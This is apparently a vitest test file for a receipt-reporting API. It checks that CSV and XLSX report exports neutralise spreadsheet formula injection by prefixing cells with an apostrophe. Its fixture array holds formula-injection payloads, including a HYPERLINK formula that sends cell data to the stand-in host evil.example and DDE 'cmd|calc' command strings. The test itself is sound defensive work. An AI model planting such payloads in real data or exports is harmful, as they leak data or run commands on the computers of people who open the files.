// Issue 13, item 11: register data that a spreadsheet would run as a formula comes out of csv and xlsx exports as text.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asOperator, createOrganization, job, persist, receipt, startApi, type ApiHarness } from '../api/api-test-helpers.js';

let h: ApiHarness;
const INN = '7707083893';
const FN = '9999078900077001';
const REG = '0000000077000001';
// The decoder trims 1030 names, so a leading tab or CR reaches the export as what follows it ('\r=1+1' → '=1+1').
const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t\t=1+2', '\r=1+1'];
const EXPECTED = ['\'=HYPERLINK("http://evil.example/?x="&A1,"Open")', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)", "'=1+2", "'=1+1"];
const PERIOD = 'from=2024-09-01&to=2024-09-30';

beforeAll(async () => {
  h = await startApi();
  await createOrganization(h, INN, 'ООО Формула');
  await persist(
    h.database,
    EVIL.map((itemName, i) => job(FN, i + 1, 3, receipt({ fn: FN, fd: i + 1, inn: INN, regId: REG, itemName, place: '=cmd|calc', price: 1000 * (i + 1) }))),
  );
});
afterAll(() => h.close());

const cellsOf = (rows: string[][]) => rows.flat();

/** RFC 4180 with `;`: quoted fields may hold `;`, `""` and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      rows.at(-1)!.push(cell);
      cell = '';
      rows.push([]);
      i++;
    } else cell += ch;
  }
  rows.at(-1)!.push(cell);
  return rows;
}

describe('exports', () => {
  it('csv: item names and places starting with = + - @ tab or CR get a leading apostrophe', async () => {
    for (const name of ['abc-xyz', 'outlets']) {
      const res = await h.app.inject({ method: 'GET', url: `/api/v1/reports/${name}?${PERIOD}&format=csv`, headers: asOperator });
      expect(res.statusCode).toBe(200);
      const rows = parseCsv(res.rawPayload.subarray(3).toString('utf8'));
      const dangerous = cellsOf(rows).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
      expect(dangerous, name).toEqual([]);
      if (name === 'abc-xyz') for (const cell of EXPECTED) expect(cellsOf(rows)).toContain(cell);
    }
  });

  it('xlsx: the same cells are text with the apostrophe', async () => {
    const res = await h.app.inject({ method: 'GET', url: `/api/v1/reports/abc-xyz?${PERIOD}&format=xlsx`, headers: asOperator });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    const strings = values.filter((v): v is string => typeof v === 'string');
    expect(strings.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const cell of EXPECTED) expect(strings).toContain(cell);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });
});
